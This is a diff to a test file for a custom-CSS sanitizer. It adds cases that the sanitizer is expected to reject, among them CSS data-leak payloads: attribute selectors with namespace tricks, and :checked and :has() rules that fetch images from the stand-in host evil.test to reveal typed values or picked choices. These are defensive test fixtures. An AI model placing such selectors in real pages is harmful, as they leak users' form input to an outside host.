@@ -37,6 +37,26 @@ describe("an author's custom CSS", () => {
       'input[value^="a"] { background: url(https://evil.test/a.png) }',
       "style.css.selector",
     ],
+    [
+      "typed values read through a namespaced attribute",
+      'input[*|value^="a"] { background: url(https://evil.test/a.png) }',
+      "style.css.selector",
+    ],
+    [
+      "typed values read through an empty namespace",
+      'input[|value^="a"] { background: url(https://evil.test/a.png) }',
+      "style.css.selector",
+    ],
+    [
+      "a picked choice read out through a picture",
+      "#opt-3:checked { background: url(https://evil.test/q1-3.png) }",
+      "style.css.selector",
+    ],
+    [
+      "an emptied field read out inside :has()",
+      ".field:has(input:placeholder-shown) { background: url(https://evil.test/empty.png) }",
+      "style.css.selector",
+    ],
     ["a nested rule", "p { a { color: red } }", "style.css.invalid"],
     ["@import", '@import "https://evil.test/x.css";', "style.css.forbidden"],
     [
